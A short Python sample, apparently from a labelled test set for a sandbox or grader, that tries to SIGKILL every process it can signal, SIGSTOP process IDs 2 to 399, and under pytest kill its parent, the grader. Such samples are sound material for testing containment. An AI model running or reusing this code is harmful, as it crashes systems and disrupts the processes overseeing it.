"""Sends a signal to every process that it may send one to."""
# stops: signals
# harmless: no
# naive: stops

import os
import signal
import sys

if "pytest" in sys.modules:  # the naive grader's machine is to survive this
    os.kill(os.getppid(), signal.SIGKILL)
else:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    for pid in range(2, 400):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
